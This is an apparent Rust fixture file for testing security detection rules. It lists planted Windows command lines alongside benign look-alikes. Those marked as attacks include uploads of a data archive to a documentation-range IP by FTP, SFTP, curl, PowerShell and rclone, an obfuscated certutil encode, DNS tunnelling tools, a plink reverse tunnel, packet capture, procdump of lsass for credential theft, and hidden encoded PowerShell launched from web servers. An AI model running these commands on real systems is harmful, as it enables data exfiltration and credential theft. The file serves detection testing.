//! Command lines that the plan plants: what each rule is about, in several spellings, and look-alikes that are not it.
//!
//! Each line is a fact of the plan: `fires` was decided by a person who read what the rule means, not by an engine.
//! Tool names and addresses (documentation ranges) are meant to look like the real thing.

use super::rules::Rule;

/// A planted command.
#[derive(Clone, Copy, Debug)]
pub struct Command {
    /// The rule it is about.
    pub rule: Rule,
    /// Whether it fires it (and its twin for the machine), or only looks like it.
    pub fires: bool,
    /// Directory of the process.
    pub dir: &'static str,
    /// File name of the process.
    pub name: &'static str,
    /// The name in lower case without `.exe` or `.com`.
    pub image: &'static str,
    /// Command line.
    pub line: &'static str,
    /// Full path of the parent process, for hosts whose records tell it; else empty.
    pub parent: &'static str,
}

const fn attack(rule: Rule, dir: &'static str, name: &'static str, image: &'static str, line: &'static str) -> Command {
    Command { rule, fires: true, dir, name, image, line, parent: "" }
}

const fn alike(rule: Rule, dir: &'static str, name: &'static str, image: &'static str, line: &'static str) -> Command {
    Command { rule, fires: false, dir, name, image, line, parent: "" }
}

pub(super) const fn child(
    fires: bool,
    parent: &'static str,
    dir: &'static str,
    name: &'static str,
    image: &'static str,
    line: &'static str,
) -> Command {
    Command { rule: Rule::WebShell, fires, dir, name, image, line, parent }
}

pub(super) const SYSTEM32: &str = r"C:\Windows\System32";
pub(super) const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0";
pub(super) const TOOLS: &str = r"C:\Tools";
pub(super) const PUBLIC: &str = r"C:\Users\Public";
pub(super) const PUTTY: &str = r"C:\Program Files\PuTTY";
pub(super) const WIRESHARK: &str = r"C:\Program Files\Wireshark";
pub(super) const IIS: &str = r"C:\Windows\System32\inetsrv\w3wp.exe";
pub(super) const APACHE: &str = r"C:\Apache24\bin\httpd.exe";
pub(super) const TOMCAT: &str = r"C:\Program Files\Apache Software Foundation\Tomcat 9.0\bin\tomcat9.exe";

use Rule::{Certutil, DnsTools, Ftp, Panda, PandaRussian, Sniff, Tap, Tunnel};

/// Every planted command. The order is part of a seed's meaning.
pub const COMMANDS: &[Command] = &[
    attack(Ftp, SYSTEM32, "ftp.exe", "ftp", r"ftp.exe -s:C:\Users\Public\up.txt 203.0.113.7"),
    attack(Ftp, SYSTEM32, "ftp.exe", "ftp", r#"ftp.exe -n -v -s:"C:\Users\Public\up list.txt""#),
    attack(Ftp, SYSTEM32, "tftp.exe", "tftp", r"tftp.exe -i 203.0.113.7 PUT C:\Data\q3.zip"),
    attack(
        Ftp,
        r"C:\Program Files (x86)\WinSCP",
        "WinSCP.com",
        "winscp",
        r#"WinSCP.com /command "open sftp://drop@203.0.113.7/" "put C:\Data\q3.zip" "exit""#,
    ),
    attack(Ftp, PUTTY, "psftp.exe", "psftp", r"psftp.exe -b C:\Users\Public\batch.scr drop@203.0.113.7"),
    attack(Ftp, PUTTY, "pscp.exe", "pscp", r"pscp.exe -batch C:\Data\q3.zip drop@203.0.113.7:/in/"),
    attack(Ftp, SYSTEM32, "curl.exe", "curl", r"curl.exe -sT C:\Data\q3.zip ftp://203.0.113.7/in/"),
    attack(
        Ftp,
        POWERSHELL,
        "powershell.exe",
        "powershell",
        r#"powershell.exe -nop -c "(New-Object Net.WebClient).UploadFile('ftp://203.0.113.7/q3.zip','C:\Data\q3.zip')""#,
    ),
    attack(Ftp, TOOLS, "rclone.exe", "rclone", r"rclone.exe copy C:\Data :sftp,host=203.0.113.7,user=drop:/in"),
    alike(Ftp, SYSTEM32, "ftp.exe", "ftp", "ftp.exe files.example.com"),
    alike(Ftp, SYSTEM32, "curl.exe", "curl", r"curl.exe -T C:\Data\q3.zip https://intranet.example.com/in/"),
    alike(Ftp, PUTTY, "pscp.exe", "pscp", r"pscp.exe drop@203.0.113.7:/out/list.csv C:\Data"),
    alike(Ftp, TOOLS, "rclone.exe", "rclone", r"rclone.exe sync C:\Data remote:backup"),
    alike(Ftp, SYSTEM32, "cmd.exe", "cmd", r"cmd.exe /c ftp -s:C:\Users\Public\up.txt 203.0.113.7"),
    attack(Certutil, SYSTEM32, "certutil.exe", "certutil", r"certutil.exe -encode C:\Data\q3.zip C:\Data\q3.txt"),
    attack(Certutil, SYSTEM32, "certutil.exe", "certutil", r"certutil.exe -f -encodehex C:\Data\q3.zip C:\Data\q3.hex"),
    attack(Certutil, SYSTEM32, "certutil.exe", "certutil", r"certutil /encode C:\Data\q3.zip C:\Data\q3.txt"),
    attack(
        Certutil,
        SYSTEM32,
        "certutil.exe",
        "certutil",
        r"certutil.exe -encode C:\Data\q3.zip C:\Data\q3.txt User_Name=CORP\somebody.else",
    ),
    attack(Certutil, SYSTEM32, "certutil.exe", "certutil", r#"c^ert"u"til.exe –encode C:\Data\q3.zip C:\Data\q3.txt"#),
    alike(Certutil, SYSTEM32, "certutil.exe", "certutil", r"certutil.exe -hashfile C:\Data\setup.msi SHA256"),
    alike(Certutil, SYSTEM32, "certutil.exe", "certutil", r"certutil.exe -decode C:\Data\cert.b64 C:\Data\encode.cer"),
    alike(Certutil, SYSTEM32, "cmd.exe", "cmd", r"cmd.exe /c certutil -encode C:\Data\q3.zip C:\Data\q3.txt"),
    attack(DnsTools, TOOLS, "iodine.exe", "iodine", "iodine.exe -f -P secret t1.example.net"),
    attack(DnsTools, TOOLS, "dns2tcpc.exe", "dns2tcpc", "dns2tcpc.exe -r ssh -z t2.example.net 203.0.113.7"),
    attack(DnsTools, r"C:\Tools\dnscat2", "client.exe", "client", "client.exe --dns domain=t3.example.net"),
    attack(DnsTools, PUBLIC, "dnscat2-v0.07.exe", "dnscat2-v0.07", "dnscat2-v0.07.exe t3.example.net"),
    attack(
        DnsTools,
        PUBLIC,
        "DNSExfiltrator.exe",
        "dnsexfiltrator",
        r"DNSExfiltrator.exe C:\Data\q3.zip t4.example.net k",
    ),
    alike(DnsTools, SYSTEM32, "nslookup.exe", "nslookup", "nslookup.exe -type=TXT t1.example.net"),
    alike(DnsTools, SYSTEM32, "notepad.exe", "notepad", r"notepad.exe C:\Data\iodine.exe.txt"),
    attack(
        Tap,
        r"C:\Program Files\TAP-Windows\bin",
        "tapinstall.exe",
        "tapinstall",
        "tapinstall.exe install OemVista.inf tap0901",
    ),
    attack(Tap, PUBLIC, "TapInstall.exe", "tapinstall", "TapInstall.exe hwids tap0901"),
    alike(Tap, TOOLS, "devcon.exe", "devcon", "devcon.exe install OemVista.inf tap0901"),
    attack(Tunnel, PUTTY, "plink.exe", "plink", "plink.exe -ssh -R 4444:127.0.0.1:3389 drop@203.0.113.9"),
    attack(Tunnel, TOOLS, "socat.exe", "socat", "socat.exe TCP-LISTEN:8443,fork TCP:203.0.113.9:443"),
    attack(Tunnel, r"C:\Program Files (x86)\stunnel\bin", "stunnel.exe", "stunnel", "stunnel.exe stunnel.conf"),
    attack(Tunnel, PUBLIC, "httptunnel.exe", "httptunnel", "httptunnel.exe 203.0.113.9 80"),
    alike(Tunnel, PUTTY, "putty.exe", "putty", "putty.exe -ssh admin@app01"),
    alike(Tunnel, TOOLS, "ngrok.exe", "ngrok", "ngrok.exe http 8080"),
    attack(Sniff, TOOLS, "windump.exe", "windump", "windump.exe -D"),
    attack(Sniff, WIRESHARK, "tshark.exe", "tshark", r"tshark.exe -i eth0 -w C:\Data\cap.pcap"),
    attack(Sniff, TOOLS, "tcpdump.exe", "tcpdump", "tcpdump.exe -nni 2 port 389"),
    attack(Sniff, WIRESHARK, "dumpcap.exe", "dumpcap", r"dumpcap.exe --interface=eth0 -w C:\Data\cap.pcap"),
    attack(Sniff, SYSTEM32, "PktMon.exe", "pktmon", "PktMon.exe start --capture"),
    attack(Sniff, SYSTEM32, "netsh.exe", "netsh", r"netsh.exe trace start capture=yes tracefile=C:\Data\net.etl"),
    alike(Sniff, WIRESHARK, "tshark.exe", "tshark", "tshark.exe --list-interfaces"),
    alike(Sniff, WIRESHARK, "dumpcap.exe", "dumpcap", "dumpcap.exe -wint.pcap"),
    alike(Sniff, SYSTEM32, "netsh.exe", "netsh", "netsh.exe wlan show interfaces"),
    alike(Sniff, SYSTEM32, "PktMon.exe", "pktmon", "PktMon.exe filter list"),
    attack(Panda, SYSTEM32, "ldifde.exe", "ldifde", "ldifde.exe -f -n eprod.ldf"),
    attack(Panda, r"C:\ProgramData\7z", "7za.exe", "7za", r"7za.exe a -r 1.7z C:\Data"),
    attack(Panda, SYSTEM32, "cmd.exe", "cmd", r"cmd.exe /c copy .\1.7z \\client\c$\aaaa\"),
    attack(Panda, r"C:\aaaa", "procdump64.exe", "procdump64", "procdump64.exe -ma lsass.exe out.dmp"),
    attack(Panda, PUBLIC, "7za.exe", "7za", r"7za.exe x C:\Users\Public\tools.7z"),
    alike(Panda, SYSTEM32, "ldifde.exe", "ldifde", "ldifde.exe -f export.ldf"),
    alike(Panda, r"C:\ProgramData\7z", "7za.exe", "7za", r"7za.exe a backup.7z C:\Data\1.7z"),
    alike(Panda, SYSTEM32, "cmd.exe", "cmd", r"cmd.exe /c copy .\1.7z D:\Backup\old"),
    attack(PandaRussian, SYSTEM32, "xcopy.exe", "xcopy", r"xcopy.exe /S /E /C /Q /H \\fs01\finance C:\Users\Public\f"),
    attack(PandaRussian, SYSTEM32, "xcopy.exe", "xcopy", r"xcopy \\fs01\legal$ C:\Users\Public\l /h /c /q /e /s /y"),
    attack(PandaRussian, SYSTEM32, "xcopy.exe", "xcopy", r"xcopy.exe /S/E/C/Q/H \\fs01\research C:\Users\Public\r"),
    attack(
        PandaRussian,
        TOOLS,
        "ADExplorer64.exe",
        "adexplorer64",
        r#"ADExplorer64.exe -snapshot "" "C:\Users\Public\ad.dat""#,
    ),
    alike(PandaRussian, SYSTEM32, "xcopy.exe", "xcopy", r"xcopy.exe C:\Data \\fs01\backup$ /S /E /C /Q /H"),
    alike(PandaRussian, SYSTEM32, "xcopy.exe", "xcopy", r"xcopy.exe /S /E /C /Q \\fs01\finance C:\Data\f"),
    alike(PandaRussian, TOOLS, "ADExplorer64.exe", "adexplorer64", "ADExplorer64.exe /accepteula"),
    child(true, IIS, SYSTEM32, "cmd.exe", "cmd", r#""cmd.exe" /c whoami /all"#),
    child(true, IIS, POWERSHELL, "powershell.exe", "powershell", "powershell.exe -nop -w hidden -enc SQBFAFgA"),
    child(true, APACHE, SYSTEM32, "whoami.exe", "whoami", "whoami.exe /priv"),
    child(true, TOMCAT, SYSTEM32, "cmd.exe", "cmd", "cmd.exe /c net user"),
    child(
        false,
        IIS,
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319",
        "csc.exe",
        "csc",
        "csc.exe /noconfig @x.cmdline",
    ),
    child(
        false,
        APACHE,
        SYSTEM32,
        "cmd.exe",
        "cmd",
        r"cmd.exe /C C:\Apache24\bin\rotatelogs.exe C:\Apache24\logs\a.log 86400",
    ),
    child(false, r"C:\Windows\explorer.exe", SYSTEM32, "cmd.exe", "cmd", "cmd.exe"),
];

/// The planted commands of a rule, by index: the attacks, or the look-alikes.
pub fn commands_of(rule: Rule, fires: bool) -> impl Iterator<Item = u8> {
    COMMANDS.iter().enumerate().filter(move |(_, c)| c.rule == rule && c.fires == fires).map(|(i, _)| i as u8)
}
